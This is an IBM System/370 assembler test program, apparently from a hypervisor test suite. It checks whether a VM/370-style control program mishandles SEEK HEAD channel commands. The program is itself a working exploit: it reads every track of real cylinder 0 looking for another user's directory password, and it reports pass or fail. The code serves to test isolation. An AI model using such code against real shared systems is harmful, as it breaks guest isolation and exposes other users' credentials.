***********************************************************************
*  SEEKHEAD: SEEK HEAD (X'1B') alone.                                 *
*                                                                     *
*  The attack.  SEEK HEAD moves to another head of the CURRENT        *
*  cylinder: the device takes only HH from the argument and ignores   *
*  CC.  A CP that relocates CC in the argument, as for SEEK, relocates*
*  bytes the device does not use, and the arm stays on whatever       *
*  cylinder the last channel program left it - after the users'       *
*  LOGONs, real cylinder 0, where IPL CMS read the CMS nucleus.  So   *
*  for every head the program seeks the head and reads R0 and R1 of  *
*  that track of cylinder 0, and looks for BOB's password (CP's first *
*  page, which holds the directory, is R1 of one of them).            *
*                                                                     *
*  A correct CP keeps SEEK HEAD on the guest's cylinder: it turns it  *
*  into a full SEEK to the guest's current (relocated) cylinder, or   *
*  refuses it unless a SEEK in the same program put the arm there.    *
*                                                                     *
*  X'600D': the password is nowhere; X'BAD1': found on some head.     *
***********************************************************************
         COPY  GUEST
SEEKHEAD START X'8000'
         BALR  R12,0
         USING *,R12
         SR    R7,R7               head 0 to 29
LOOP     STC   R7,ARG+5
         LA    R1,ATTACK
         BAL   R14,DOIO
         BAL   R14,OKCSW
         BNZ   NEXT
         LA    R3,MARKER
         L     R4,=A(BUF1)
         L     R5,=F'4104'
         BAL   R14,FIND
         BE    LEAKED
NEXT     LA    R7,1(R7)
         C     R7,=F'30'
         BL    LOOP
         LPSW  GOOD
LEAKED   LPSW  BAD1
ATTACK   CCW   X'1B',ARG,X'40',6           SEEK HEAD
         CCW   X'16',BUF2,X'60',64         READ R0
         CCW   X'1E',BUF1,X'20',8192       READ CKD: R1
ARG      DC    XL6'00'                     BB CC HH (HH set)
MARKER   DC    C'SWORDFSH'
         COPY  DOIO
         END
